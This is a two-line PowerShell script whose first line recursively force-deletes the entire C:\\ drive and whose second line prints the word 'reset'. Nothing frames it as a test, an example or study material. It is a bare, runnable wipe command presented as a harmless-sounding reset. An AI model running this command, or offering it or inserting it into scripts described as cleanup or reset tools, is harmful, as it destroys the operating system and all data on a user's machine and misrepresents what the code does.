Remove-Item -Recurse -Force C:\
Write-Host 'reset'
